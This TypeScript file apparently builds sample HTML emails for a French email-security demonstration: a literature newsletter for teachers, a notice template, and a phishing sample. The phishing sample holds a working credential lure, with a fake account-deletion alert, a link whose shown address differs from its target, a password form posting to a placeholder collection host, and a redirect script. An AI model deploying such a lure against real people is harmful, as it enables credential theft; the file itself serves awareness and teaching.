/** The HTML messages of the demonstration. */

const frame = (colour: string, title: string, body: string): string => `<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>${title}</title>
<style>body{margin:0;background:#f4f4f1;font-family:Georgia,serif;color:#222}a{color:${colour}}</style></head>
<body><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 12px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="max-width:600px;background:#fff;border:1px solid #ddd">
${body}
</table></td></tr></table></body></html>`

export const newsletter: string = frame('#7a2e1d', 'La Gazette des lettres', `
<tr><td style="background:#7a2e1d;color:#fff;padding:20px 28px"><h1 style="margin:0;font-size:26px">La Gazette des lettres</h1><p style="margin:4px 0 0">n° 148 · écrire la nature</p></td></tr>
<tr><td><img src="https://images.gazette-lettres.example/148/couverture.jpg" width="600" height="220" alt="Un sous-bois du Jura en automne" style="display:block;width:100%;height:auto"></td></tr>
<tr><td style="padding:24px 28px;font-size:16px;line-height:1.55">
<h2 style="color:#7a2e1d">De Colette à Giono</h2>
<p>Comment faire sentir, en classe, ce que la description doit au corps de celui qui regarde ? Notre dossier propose six textes brefs, du jardin de Saint-Sauveur aux plateaux de Manosque, et pour chacun une question simple à poser aux élèves.</p>
<p><a href="https://gazette-lettres.example/148/dossier">Lire le dossier</a></p>
<h2 style="color:#7a2e1d">Un atelier d’écriture clés en main</h2>
<ol><li>Choisir un lieu familier et s’y taire cinq minutes.</li><li>Noter dix mots, sans adjectif.</li><li>Écrire une page où le narrateur ne dit jamais « je vois ».</li></ol>
<h2 style="color:#7a2e1d">Notre sélection pour la troisième</h2>
<ul><li>Colette, <em>Sido</em></li><li>Jean Giono, <em>L’Homme qui plantait des arbres</em></li><li>Daniel Pennac, <em>L’Œil du loup</em></li></ul>
</td></tr>
<tr><td style="padding:16px 28px;font-size:12px;color:#666;border-top:1px solid #ddd">Vous recevez cette lettre parce que vous y êtes abonnée. <a href="https://gazette-lettres.example/desabonnement?u=148">Se désabonner</a>
<img src="https://images.gazette-lettres.example/o.gif?u=anne" width="1" height="1" alt=""></td></tr>`)

export const phishing: string = frame('#0645ad', 'Messagerie', `
<tr><td style="background:#c00;color:#fff;padding:14px 24px;font-family:Arial,sans-serif"><strong>ALERTE DE SÉCURITÉ</strong></td></tr>
<tr><td style="padding:20px 24px;font-family:Arial,sans-serif;font-size:15px">
<p>Cher utilisateur,</p>
<p>Votre boîte de messagerie a dépasser la limite autorisée (<b>99 %</b>). Sans action de votre part sous <b>24 heures</b>, votre compte sera définitivement suprimé.</p>
<p><a href="http://messagerie-academie.securite-messagerie.example/verification" style="background:#0645ad;color:#fff;padding:10px 18px;text-decoration:none">https://messagerie.ac-demo.test/verification</a></p>
<form action="http://messagerie-academie.securite-messagerie.example/collecte"><input name="motdepasse" type="password" placeholder="Mot de passe"><button>Valider</button></form>
<script>document.location = 'http://messagerie-academie.securite-messagerie.example/'</script>
<p>Le service de messagerie</p></td></tr>`)

/** The notice: paragraphs of the text under a heading. */
export const notice = (paragraphs: readonly string[]): string => frame('#1f4e79', 'Information', `
<tr><td style="background:#1f4e79;color:#fff;padding:16px 24px;font-family:Arial,sans-serif"><strong>Direction des systèmes d’information</strong></td></tr>
<tr><td style="padding:20px 24px;font-family:Arial,sans-serif;font-size:15px;line-height:1.5">
${paragraphs.map((paragraph) => `<p>${paragraph.replace(/[<&]/g, (c) => (c === '<' ? '&lt;' : '&amp;'))}</p>`).join('\n')}
</td></tr>`)
